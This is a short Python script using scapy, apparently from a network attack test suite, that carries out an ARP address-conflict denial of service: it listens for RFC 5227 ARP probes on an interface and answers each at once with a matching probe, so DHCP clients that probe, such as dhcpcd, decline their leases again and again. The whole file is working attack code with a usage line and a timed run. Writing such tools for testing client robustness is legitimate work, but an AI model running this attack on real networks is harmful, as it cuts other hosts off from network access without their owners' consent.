#!/usr/bin/python3
# SPDX-License-Identifier: (GPL-2.0-only OR BSD-2-Clause)
"""Address-conflict DoS, for the attack tests: every ARP probe another
host sends (sender IP 0.0.0.0, RFC 5227 2.1.1) is answered at once with
a probe of this host's own for the same target.  RFC 5227 2.1.1 tells
the prober to treat that as a conflict: a DHCP client that probes
(dhcpcd) declines its lease, again and again.  The frames carry this
host's own MAC and sender IP 0.0.0.0, so only the target is foreign.

Usage: arp_conflict.py IFACE [--duration S]
Prints "ready" once it listens, then one line per probe answered.
"""
import argparse
import time

from scapy.all import ARP, AsyncSniffer, Ether, conf, get_if_hwaddr


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("iface")
    ap.add_argument("--duration", type=float, default=10)
    a = ap.parse_args()

    mac = get_if_hwaddr(a.iface)
    sock = conf.L2socket(iface=a.iface)

    def answer(p):
        if ARP not in p or p[ARP].op != 1 or p[ARP].psrc != "0.0.0.0":
            return
        if p[ARP].hwsrc == mac:
            return
        sock.send(Ether(src=mac, dst="ff:ff:ff:ff:ff:ff")
                  / ARP(op=1, hwsrc=mac, psrc="0.0.0.0",
                        hwdst="00:00:00:00:00:00", pdst=p[ARP].pdst))
        print("probe for %s (seen from %s)" % (p[ARP].pdst, p[ARP].hwsrc), flush=True)

    sniffer = AsyncSniffer(iface=a.iface, filter="arp", prn=answer, store=False,
                           started_callback=lambda: print("ready", flush=True))
    sniffer.start()
    time.sleep(a.duration)
    sniffer.stop()


if __name__ == "__main__":
    main()
